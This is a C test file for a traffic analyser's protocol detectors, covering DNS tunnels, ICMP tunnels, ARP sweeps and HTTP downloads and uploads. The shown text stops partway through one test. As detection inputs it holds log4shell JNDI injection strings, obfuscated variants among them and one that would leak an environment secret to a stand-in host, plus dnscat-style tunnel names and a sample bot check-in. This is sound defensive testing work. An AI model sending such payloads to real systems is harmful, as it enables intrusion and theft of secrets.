/*
 * test_report.c - the report's protocol detectors (analysis/proto_*.c) on
 * hand-built payloads, well-formed, truncated and malformed (ICMP tunnels
 * against ordinary pings, data in DNS names, the ARP sweep table), and the
 * range labels of geo.c.  Every payload is a heap copy of exactly its
 * length so ASan catches any overread.
 */
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <openssl/evp.h>
#include <openssl/x509.h>

#include "analysis/annots.h"
#include "analysis/http_sniff.h"
#include "analysis/report-int.h"
#include "flow/flow.h"
#include "harness.h"

extern const struct rp_proto proto_icmp, proto_dns, proto_ntp, proto_overnet, proto_kad, proto_btdht,
	proto_gnutella, proto_tls, proto_http, proto_smtp, proto_irc, proto_ftp, proto_smb, proto_shell, proto_ssh;

static struct rp_col *col;

static struct rp_flow flow(uint8_t proto, uint16_t sport, uint16_t dport)
{
	return (struct rp_flow){ .proto = proto, .sport = sport, .dport = dport, .h = { 1, 2 } };
}

/* Runs detector d on a heap copy of n bytes of p in direction dir. */
static bool feed(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	/* the flow's address stands for its record index: stable while the test runs */
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .idx = (uint32_t)((uintptr_t)f >> 4) };
	bool ok = d->inspect(col, f, &s);
	if (ok && !f->app)
		f->app = d->app;
	free(b);
	return ok;
}

/* feed() of a string. */
static bool feed_str(const struct rp_proto *d, struct rp_flow *f, const char *text, int dir)
{
	return feed(d, f, text, strlen(text), dir);
}

/* Runs detector d on segment (seq, p[0..n)) of a TCP flow, as the collector does. */
static bool feed_seq(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir, uint32_t seq)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .seq = seq,
			    .idx = (uint32_t)((uintptr_t)f >> 4) };
	bool ok = !(f->done >> dir & 1) && d->inspect(col, f, &s);
	if (ok && !f->app)
		f->app = d->app;
	free(b);
	return ok;
}

/* Ends flow f as the collector does (its parser state is released). */
static void end_flow(const struct rp_proto *d, struct rp_flow *f)
{
	if (d->flow_end)
		d->flow_end(col, f, (uint32_t)((uintptr_t)f >> 4));
}

static const char *ev(unsigned cat)
{
	static char buf[256];
	rp_ev_join(col, 1, cat, 1, buf, sizeof buf);
	return buf;
}

static void test_dns(void)
{
	TEST("dns");
	static const uint8_t q[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
		3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
	struct rp_flow f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, q, sizeof q, 0));
	CHECK_EQ_U(f.count, 1);
	CHECK_STR(ev(EV_DNS_QNAME), "www.example.com");
	/* the answer: name by pointer to offset 12, A 1.2.3.4 */
	uint8_t r[sizeof q + 16];
	memcpy(r, q, sizeof q);
	r[2] = 0x81, r[3] = 0x80, r[7] = 1;
	static const uint8_t an[] = { 0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 1, 2, 3, 4 };
	memcpy(r + sizeof q, an, sizeof an);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, r, sizeof r, 1));
	CHECK(f.facts & RPF_DNS_ANSWER);
	uint8_t a[16] = { 1, 2, 3, 4 };
	CHECK_STR(rp_pdns_name(col, 4, a), "www.example.com");
	/* truncated: every prefix of the query either parses or is refused, never overreads */
	for (size_t n = 0; n < sizeof q; n++) {
		f = flow(17, 1100, 53);
		CHECK(!feed(&proto_dns, &f, q, n, 0));
	}
	/* malformed: a pointer to itself, a 64-byte label, no question, another port */
	uint8_t loop[] = { 0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 12, 0, 1, 0, 1 };
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, loop, sizeof loop, 0));
	uint8_t big[12 + 1 + 64 + 5] = { 0, 1, 1, 0, 0, 1 };
	big[12] = 64;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, big, sizeof big, 0));
	uint8_t noq[sizeof q];
	memcpy(noq, q, sizeof q);
	noq[5] = 0;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, noq, sizeof noq, 0));
	f = flow(17, 1100, 54);
	CHECK(!feed(&proto_dns, &f, q, sizeof q, 0));
	/* tunnel: a 50-character label */
	uint8_t t[12 + 1 + 50 + 6 + 4 + 4] = { 0, 1, 1, 0, 0, 1 };
	size_t o = 12;
	t[o++] = 50;
	memset(t + o, 'a', 50);
	o += 50;
	memcpy(t + o, "\004pira\002te\0\0\x0a\0\x01", 12);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, t, sizeof t, 0));
	CHECK(f.facts & RPF_DNS_TUNNEL);
	CHECK_STR(ev(EV_DNS_DOMAIN), "pira.te");
}

/* A 20-byte IPv4 header (checksum computed) for len bytes in all, src -> dst, protocol proto. */
static size_t ipv4_hdr(uint8_t *b, unsigned len, const uint8_t src[4], const uint8_t dst[4], uint8_t proto)
{
	memset(b, 0, 20);
	b[0] = 0x45;
	b[2] = (uint8_t)(len >> 8), b[3] = (uint8_t)len;
	b[6] = 0x40, b[8] = 64, b[9] = proto;
	memcpy(b + 12, src, 4);
	memcpy(b + 16, dst, 4);
	uint32_t sum = 0;
	for (int i = 0; i < 20; i += 2)
		sum += (uint32_t)b[i] << 8 | b[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	sum = ~sum & 0xffff;
	b[10] = (uint8_t)(sum >> 8), b[11] = (uint8_t)sum;
	return 20;
}

static void test_icmp_tunnel(void)
{
	TEST("icmp tunnel");
	static const uint8_t in_s[4] = { 10, 95, 1, 1 }, in_d[4] = { 10, 95, 1, 2 };
	/* an echo request whose data is an IPv4 packet: inner ICMP echo with a pattern */
	uint8_t p[84];
	ipv4_hdr(p, sizeof p, in_s, in_d, 1);
	for (size_t i = 20; i < sizeof p; i++)
		p[i] = (uint8_t)i;
	struct rp_flow f = flow(1, 8, 0);
	CHECK(feed(&proto_icmp, &f, p, sizeof p, 0));
	CHECK_EQ_U(f.count, 1);
	CHECK_EQ_U(f.count2, 1);
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL);
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL_ORIG);
	CHECK(!(f.facts2 & RPF2_ICMP_TUNNEL_RESP));
	CHECK_STR(ev(EV_TUNNEL_INNER), "10.95.1.1 -> 10.95.1.2");
	/* the reply direction: the responder's packets */
	CHECK(feed(&proto_icmp, &f, p, sizeof p, 1));
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL_RESP);
	CHECK_EQ_U(f.count, 2);
	/* followed by padding: still an inner packet */
	uint8_t pad[sizeof p + 8];
	memcpy(pad, p, sizeof p);
	memset(pad + sizeof p, 0, 8);
	f = flow(1, 8, 0);
	CHECK(feed(&proto_icmp, &f, pad, sizeof pad, 0));
	/* a wrong header checksum, a total length past the data, IHL < 5: not a packet */
	uint8_t bad[sizeof p];
	memcpy(bad, p, sizeof p);
	bad[11] ^= 1;
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, bad, sizeof bad, 0));
	CHECK_EQ_U(f.count, 0);
	CHECK_EQ_U(f.count2, 1);
	CHECK(!(f.facts2 & RPF2_ICMP_TUNNEL));
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p - 1, 0));
	memcpy(bad, p, sizeof p);
	bad[0] = 0x44;
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, bad, sizeof bad, 0));
	/* ordinary pings: Linux/BSD (timeval + 0x10, 0x11, ...), one whose timestamp opens with 0x45, Windows */
	uint8_t lin[56];
	static const uint8_t tv[8] = { 0x2d, 0x6e, 0x13, 0x51, 0x2d, 0x49, 0x06, 0x00 };
	memcpy(lin, tv, 8);
	for (size_t i = 8; i < sizeof lin; i++)
		lin[i] = (uint8_t)(i + 8);
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, lin, sizeof lin, 0));
	lin[0] = 0x45;
	CHECK(!feed(&proto_icmp, &f, lin, sizeof lin, 0));
	const char *win = "abcdefghijklmnopqrstuvwabcdefghi";
	CHECK(!feed(&proto_icmp, &f, win, strlen(win), 0));
	f = flow(58, 128, 129);
	CHECK(!feed(&proto_icmp, &f, win, strlen(win), 0));
	CHECK_EQ_U(f.count, 0);
	/* ICMPv6 echo: identifier and sequence number, then an IPv6 packet (UDP, 8 bytes) */
	uint8_t v6[4 + 40 + 8] = { 0, 1, 0, 1, 0x60 };
	v6[4 + 5] = 8, v6[4 + 6] = 17, v6[4 + 7] = 64;
	v6[4 + 8] = 0xfd, v6[4 + 23] = 1, v6[4 + 24] = 0xfd, v6[4 + 39] = 2;
	f = flow(58, 128, 129);
	CHECK(feed(&proto_icmp, &f, v6, sizeof v6, 0));
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL);
	v6[4 + 5] = 9;  /* payload length one past the data */
	f = flow(58, 128, 129);
	CHECK(!feed(&proto_icmp, &f, v6, sizeof v6, 0));
	/* not echo: a destination unreachable quotes an IP header, and is no tunnel */
	f = flow(1, 3, 3);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p, 0));
	f = flow(17, 8, 0);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p, 0));
	/* every prefix: refused or parsed, never an overread */
	for (size_t n = 0; n < 40; n++) {
		f = flow(1, 8, 0);
		feed(&proto_icmp, &f, p, n, 0);
		f = flow(58, 128, 129);
		feed(&proto_icmp, &f, v6, n, 0);
	}
}

/* A DNS query for name (dotted) of type qtype into b; returns its length. */
static size_t dns_query(uint8_t *b, const char *name, unsigned qtype)
{
	static const uint8_t hdr[12] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
	memcpy(b, hdr, 12);
	size_t o = 12;
	for (const char *p = name; *p;) {
		const char *dot = strchr(p, '.');
		size_t n = dot ? (size_t)(dot - p) : strlen(p);
		b[o++] = (uint8_t)n;
		memcpy(b + o, p, n);
		o += n;
		p += n + (dot != NULL);
	}
	b[o++] = 0;
	b[o++] = (uint8_t)(qtype >> 8), b[o++] = (uint8_t)qtype;
	b[o++] = 0, b[o++] = 1;
	return o;
}

static const struct rp_dns_peer *dns_peer(uint32_t client, uint32_t server)
{
	for (size_t i = 0; i < col->ndns; i++)
		if (col->dns[i].client == client && col->dns[i].server == server)
			return &col->dns[i];
	return NULL;
}

static void test_dns_data(void)
{
	TEST("dns data");
	uint8_t b[300];
	/* a hash-sized hex label under a domain (telemetry, reputation lookups): no data */
	struct rp_flow f = { .proto = 17, .sport = 1100, .dport = 53, .h = { 5, 6 } };
	size_t n = dns_query(b, "4e963dfa7cb178ea5aad7c2ac284d065.clo.footprintdns.com", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	n = dns_query(b, "www.example.com", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	/* data where the domain should be, and long hex labels: data */
	f = (struct rp_flow){ .proto = 17, .sport = 1101, .dport = 53, .h = { 5, 7 } };
	n = dns_query(b, "dnscat.f66701f500fcde3c122c8f00082fd11527", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(f.facts & RPF_DNS_TUNNEL);
	n = dns_query(b, "a35c00f5005703c8b1b8cd000118b52347aeb1d73340c97cca43c34b27cf.edf0dbda.t.example.org", 15);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK_EQ_U(f.count2, 2);
	/* one label, letters and digits, TXT, to a server the host asks nothing else: no domain */
	f = (struct rp_flow){ .proto = 17, .sport = 1102, .dport = 53, .h = { 5, 8 } };
	n = dns_query(b, "1qaz2wsx", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(f.facts2 & RPF2_DNS_BADNAME);
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	/* names hosts ask by themselves, and short host names asked for A, are one label but no data */
	n = dns_query(b, "wpad", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	n = dns_query(b, "printer1", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	/* multicast DNS: LAN chatter, whatever its names look like */
	f = (struct rp_flow){ .proto = 17, .sport = 5353, .dport = 5353, .h = { 5, 9 } };
	n = dns_query(b, "Google-Home-Mini-2c3b8e1f7a6d9e0b4c5a2c3b8e1f7a6d9e0b4c5a.local", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	n = dns_query(b, "DESKTOP1X", 255);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	CHECK(!(f.facts2 & RPF2_DNS_BADNAME));
	CHECK(dns_peer(5, 9) == NULL);
	const struct rp_dns_peer *e = dns_peer(5, 8);
	CHECK(e && e->queries == 3 && e->badname == 3 && e->baddata == 1);
	CHECK_STR(e ? e->sample : NULL, "1qaz2wsx");
	e = dns_peer(5, 7);
	CHECK(e && e->data == 2 && e->data_bytes > 100);
	/* the resolver is the server of most queries for domain names */
	rp_dns_finish(col);
	CHECK(dns_peer(5, 6) && dns_peer(5, 6)->resolver);   /* 2 domain-name queries, seen first */
	CHECK(dns_peer(5, 7) && !dns_peer(5, 7)->resolver);  /* 2 too: a tie goes to the first seen */
	CHECK(dns_peer(5, 8) && !dns_peer(5, 8)->resolver);  /* only one-label names: never a resolver */
}

static void arp_req(uint32_t s, uint32_t t, float now)
{
	struct pkt p = { .ethertype = 0x0806 };
	p.arp.op = ARP_REQUEST;
	for (int i = 0; i < 4; i++) {
		p.arp.spa[i] = (uint8_t)(s >> (24 - 8 * i));
		p.arp.tpa[i] = (uint8_t)(t >> (24 - 8 * i));
	}
	rp_arp_packet(col, &p, now);
}

static void test_arp_sweep(void)
{
	TEST("arp sweep");
	uint32_t me = 0x0a000001, other = 0x0a000002;   /* 10.0.0.1, 10.0.0.2 */
	for (unsigned i = 2; i < 42; i++)   /* 40 addresses in 4 s, each asked twice */
		for (int k = 0; k < 2; k++)
			arp_req(me, 0x0a000000 | i, (float)i * 0.1f);
	for (unsigned i = 0; i < 30; i++)   /* a busy host: 30 peers over 30 minutes, gratuitous ARP, probes */
		arp_req(other, 0x0a000000 | (100 + i), (float)i * 60);
	arp_req(other, other, 5);
	arp_req(0, 0x0a000063, 5);
	uint8_t sw[4][4];
	CHECK_EQ_U(rp_arp_sweepers(col, sw, 4), 1);
	CHECK(sw[0][0] == 10 && sw[0][3] == 1);
	const struct rp_arp *e = NULL;
	for (size_t i = 0; i < col->narp; i++)
		if (col->arp[i].sender == me)
			e = &col->arp[i];
	CHECK(e && e->distinct == 40 && e->best == 40 && e->requests == 80 && e->net == 0x0a000000);
	/* 32 within a minute, but not 40 over an hour */
	for (size_t i = 0; i < col->narp; i++)
		if (col->arp[i].sender == other)
			CHECK(!rp_arp_sweep(&col->arp[i]));
}

static void test_ntp(void)
{
	TEST("ntp");
	uint8_t p[48] = { 0x23 };   /* v4, mode 3 (client) */
	struct rp_flow f = flow(17, 123, 123);
	CHECK(feed(&proto_ntp, &f, p, sizeof p, 0));
	CHECK(f.facts & RPF_NTP_CLIENT);
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, 47, 0));
	p[0] = 0x20;   /* mode 0 */
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
	p[0] = 0x23;
	f = flow(6, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
}

static void test_smtp(void)
{
	TEST("smtp");
	const char *c = "EHLO bot.example\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<x@y.z>\r\nRCPT TO:<w@y.z>\r\nDATA\r\n";
	struct rp_flow f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, c, strlen(c), 0));
	CHECK_STR(ev(EV_SMTP_HELO), "bot.example");
	CHECK_EQ_U(f.count, 2);
	CHECK((f.facts & (RPF_SMTP_MAIL | RPF_SMTP_DATA)) == (RPF_SMTP_MAIL | RPF_SMTP_DATA));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "554 go away\r\n", 13, 1));
	f = flow(6, 1200, 80);
	CHECK(!feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "22", 2, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "EHL", 3, 0));
}

static void test_http(void)
{
	TEST("http");
	const char *p = "POST /gate HTTP/1.1\r\nHost: cc.example\r\nUser-Agent: Bot/1\r\n"
			"Content-Type: application/octet-stream\r\nContent-Length: 3\r\n\r\nabc";
	struct rp_flow f = flow(6, 1300, 80);
	CHECK(feed(&proto_http, &f, p, strlen(p), 0));
	CHECK((f.facts & (RPF_HTTP_POST | RPF_HTTP_BINARY)) == (RPF_HTTP_POST | RPF_HTTP_BINARY));
	CHECK_STR(ev(EV_HTTP_HOST), "cc.example");
	CHECK_STR(ev(EV_HTTP_UA), "Bot/1");
	CHECK(!(f.facts2 & RPF2_HTTP_RAWIP));
	end_flow(&proto_http, &f);
	const char *g = "GET /dl/ecard.exe?x=1 HTTP/1.0\r\n\r\n";
	f = flow(6, 1301, 80);
	CHECK(feed(&proto_http, &f, g, strlen(g), 0));
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);   /* no Host */
	end_flow(&proto_http, &f);
	/* a response seen without its request, body to the end of the connection */
	const char *r = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nMZ\x90";
	f = flow(6, 1302, 80);
	CHECK(feed(&proto_http, &f, r, strlen(r), 1));
	end_flow(&proto_http, &f);
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	f = flow(6, 1303, 80);
	CHECK(!feed(&proto_http, &f, "GET /", 5, 0));
	f = flow(6, 1304, 80);
	CHECK(!feed(&proto_http, &f, "\x16\x03\x01", 3, 0));
	/* every truncation of the request: no overread, headers only as far as present */
	for (size_t n = 0; n < strlen(p); n++) {
		f = flow(6, 1305, 80);
		feed(&proto_http, &f, p, n, 0);
		end_flow(&proto_http, &f);
	}
}

/* A 600-byte PE image: "MZ", e_lfanew = 128, "PE\0\0" there. */
static void pe_image(uint8_t *b, size_t n)
{
	memset(b, 0x90, n);
	b[0] = 'M', b[1] = 'Z';
	memset(b + 60, 0, 4);
	b[60] = 128;
	memcpy(b + 128, "PE\0\0", 4);
}

static void test_http_keepalive(void)
{
	TEST("http keep-alive: the second response is a PE split across segments");
	struct rp_flow f = flow(6, 1400, 8080);
	const char *q1 = "GET /index.html HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
	const char *q2 = "GET /a/b HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
	const char *r1 = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello";
	const char *h2 = "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 600\r\n\r\n";
	uint8_t pe[600];
	pe_image(pe, sizeof pe);
	uint32_t qs = 1000, rs = 5000;
	CHECK(feed_seq(&proto_http, &f, q1, strlen(q1), 0, qs));
	qs += (uint32_t)strlen(q1);
	CHECK(feed_seq(&proto_http, &f, r1, strlen(r1), 1, rs));
	rs += (uint32_t)strlen(r1);
	CHECK(!(f.facts2 & RPF2_HTTP_DOWNLOAD));
	CHECK(f.facts2 & RPF2_HTTP_HTML);
	CHECK(feed_seq(&proto_http, &f, q2, strlen(q2), 0, qs));
	/* headers and the first 2 bytes, then the rest in two segments */
	uint8_t seg[200];
	size_t hl = strlen(h2);
	memcpy(seg, h2, hl);
	memcpy(seg + hl, pe, 2);
	CHECK(feed_seq(&proto_http, &f, seg, hl + 2, 1, rs));
	rs += (uint32_t)(hl + 2);
	CHECK(feed_seq(&proto_http, &f, pe + 2, 300, 1, rs));
	CHECK(feed_seq(&proto_http, &f, pe + 302, 298, 1, rs + 300));
	CHECK_EQ_U(f.count, 2);
	CHECK_EQ_U(f.count2, 2);
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	CHECK(f.facts2 & RPF2_HTTP_FILE);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
	end_flow(&proto_http, &f);
	char buf[256];
	rp_ev_join(col, 1, EV_HTTP_DOWNLOAD, 8, buf, sizeof buf);
	CHECK(strstr(buf, "pe 600 B image/gif /a/b") != NULL);
	rp_ev_join(col, 1, EV_EXE_FILE, 8, buf, sizeof buf);
	CHECK(strstr(buf, "/a/b") != NULL && !strstr(buf, "image/gif"));
}

/* gzip of a 300-byte ELF image (7F 'E' 'L' 'F', then 296 bytes of 'A'), made with zlib. */
#include <zlib.h>
static size_t gzip_elf(uint8_t *out, size_t cap)
{
	uint8_t elf[300];
	memset(elf, 'A', sizeof elf);
	memcpy(elf, "\x7f" "ELF", 4);
	z_stream z = { 0 };
	deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
	z.next_in = elf;
	z.avail_in = sizeof elf;
	z.next_out = out;
	z.avail_out = (uInt)cap;
	deflate(&z, Z_FINISH);
	size_t n = cap - z.avail_out;
	deflateEnd(&z);
	return n;
}

static void test_http_chunked_gzip(void)
{
	TEST("http chunked + gzip: the decoded body is an ELF");
	uint8_t gz[512], msg[1024];
	size_t gn = gzip_elf(gz, sizeof gz);
	int h = snprintf((char *)msg, sizeof msg, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			 "Transfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n%zx\r\n", (size_t)10);
	size_t o = (size_t)h;
	memcpy(msg + o, gz, 10), o += 10;
	o += (size_t)snprintf((char *)msg + o, sizeof msg - o, "\r\n%zx\r\n", gn - 10);
	memcpy(msg + o, gz + 10, gn - 10), o += gn - 10;
	memcpy(msg + o, "\r\n0\r\n\r\n", 7), o += 7;
	const char *q = "GET /x HTTP/1.1\r\nHost: dl.example\r\n\r\n";
	struct rp_flow f = flow(6, 1500, 80);
	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
	CHECK(feed_seq(&proto_http, &f, msg, o / 2, 1, 100));
	CHECK(feed_seq(&proto_http, &f, msg + o / 2, o - o / 2, 1, 100 + (uint32_t)(o / 2)));
	CHECK(f.facts2 & RPF2_HTTP_ELF);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	end_flow(&proto_http, &f);
}

static void test_http_log4shell(void)
{
	TEST("http log4shell");
	const char *q = "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n";
	struct rp_flow f = flow(6, 1600, 8080);
	f.h[0] = 7;
	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
	CHECK(f.facts2 & RPF2_HTTP_LOG4SHELL);
	char buf[128];
	rp_ev_join(col, 7, EV_LOG4SHELL, 1, buf, sizeof buf);
	CHECK_STR(buf, "User-Agent: ${jndi:ldap://x/a}");
	end_flow(&proto_http, &f);
	/* obfuscated spellings, and none */
	static const char *const hit[] = { "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x}",
					   "a=%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
					   "${jndi:dns://x/${env:SECRET}}" };
	static const char *const miss[] = { "${java:version}", "${lower:jndi}", "$jndi:ldap", "${", "" };
	char out[80];
	for (size_t i = 0; i < sizeof hit / sizeof *hit; i++)
		CHECK(http_log4shell((const uint8_t *)hit[i], strlen(hit[i]), out, sizeof out));
	for (size_t i = 0; i < sizeof miss / sizeof *miss; i++)
		CHECK(!http_log4shell((const uint8_t *)miss[i], strlen(miss[i]), out, sizeof out));
}

static void test_http_retransmit(void)
{
	TEST("http: a retransmitted segment is not counted twice");
	const char *a = "POST /u HTTP/1.1\r\nHost: 10.1.1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
			"Content-Length: 24\r\n\r\n";
	const char *b = "user=a&pass=b&x=", *c = "12345678";
	struct rp_flow f = flow(6, 1700, 80);
	uint32_t s = 7;
	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));
	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));   /* retransmitted headers */
	s += (uint32_t)strlen(a);
	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));
	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));   /* retransmitted body */
	CHECK(feed_seq(&proto_http, &f, c, strlen(c), 0, s + (uint32_t)strlen(b)));
	CHECK_EQ_U(f.count, 1);
	CHECK(f.facts2 & RPF2_HTTP_CREDFORM);
	char buf[128];
	rp_ev_join(col, 1, EV_HTTP_UPLOAD, 4, buf, sizeof buf);
	CHECK(strstr(buf, "POST /u (24 B, credential form)") != NULL);
	/* the next request on the connection parses: the body was not taken as longer */
	const char *n = "GET /next HTTP/1.1\r\nHost: 10.1.1.1\r\n\r\n";
	CHECK(feed_seq(&proto_http, &f, n, strlen(n), 0, s + (uint32_t)(strlen(b) + strlen(c))));
	CHECK_EQ_U(f.count, 2);
	/* one early segment is held until the gap fills */
	struct rp_flow g = flow(6, 1701, 80);
	const char *q = "GET /held HTTP/1.1\r\nHost: h.example\r\n\r\n";
	size_t k = 20, ql = strlen(q);
	CHECK(feed_seq(&proto_http, &g, q, k, 0, 50));
	feed_seq(&proto_http, &g, q + k + 5, ql - k - 5, 0, 50 + (uint32_t)k + 5);
	CHECK_EQ_U(g.count, 0);
	feed_seq(&proto_http, &g, q + k, 5, 0, 50 + (uint32_t)k);
	CHECK_EQ_U(g.count, 1);
	end_flow(&proto_http, &g);
	end_flow(&proto_http, &f);
}

static void test_http_bigpost(void)
{
	TEST("http: a chunked upload past the budget is still a large request body");
	const char *h = "POST /up HTTP/1.1\r\nHost: 203.0.113.5\r\nTransfer-Encoding: chunked\r\n\r\n"
			"11170\r\n";   /* one chunk of 70000 bytes */
	struct rp_flow f = flow(6, 1900, 80);
	uint32_t seq = 1;
	CHECK(feed_seq(&proto_http, &f, h, strlen(h), 0, seq));
	seq += (uint32_t)strlen(h);
	uint8_t seg[1400];
	memset(seg, 'z', sizeof seg);
	for (int i = 0; i < 50 && !(f.done & 1); i++, seq += sizeof seg)
		feed_seq(&proto_http, &f, seg, sizeof seg, 0, seq);
	CHECK(f.done & 1);   /* the budget ended the direction */
	CHECK(f.facts2 & RPF2_HTTP_BIGPOST);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
	end_flow(&proto_http, &f);
}

/* One request and its response (headers + body) on a fresh flow; returns the flow's facts2. */
static uint32_t http_exchange(const char *req, const char *res_head, const void *body, size_t n)
{
	struct rp_flow f = flow(6, 1800, 80);
	uint8_t msg[2048];
	size_t hl = strlen(res_head);
	memcpy(msg, res_head, hl);
	memcpy(msg + hl, body, n);
	feed_seq(&proto_http, &f, req, strlen(req), 0, 1);
	feed_seq(&proto_http, &f, msg, hl + n, 1, 1);
	end_flow(&proto_http, &f);
	return f.facts2;
}

static void test_http_download_rules(void)
{
	TEST("http download rules: packages and ordinary plug-ins are not downloads");
	uint8_t zeros[1200] = { 0 }, blob[1200], swf[600] = { 'C', 'W', 'S', 10 };
	for (size_t i = 0; i < sizeof blob; i++)   /* varied bytes, as code or ciphertext */
		blob[i] = (uint8_t)(i * 167 + (i >> 3) * 29);
	/* a .deb fetched by APT: octet-stream, large, still no download */
	uint32_t f2 = http_exchange("GET /pool/main/x_1.0_amd64.deb HTTP/1.1\r\nHost: deb.example\r\n"
				    "User-Agent: Debian APT-HTTP/1.3 (1.2.32)\r\n\r\n",
				    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
				    "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* a Debian package by content type, whoever fetches it: no download */
	f2 = http_exchange("GET /x.deb HTTP/1.1\r\nHost: deb.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-debian-package\r\n"
			   "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* an octet-stream of >= 4 KiB (declared) from a script: a download */
	f2 = http_exchange("GET /load.php?e=1 HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			   "Content-Length: 5000\r\n\r\n", blob, sizeof blob);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	/* ... unless it is filler (zeros: a test file): neither code nor ciphertext */
	f2 = http_exchange("GET /load.php?e=1 HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			   "Content-Length: 5000\r\n\r\n", zeros, sizeof zeros);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* the same as a named site's static file (an update blob, a font): no download */
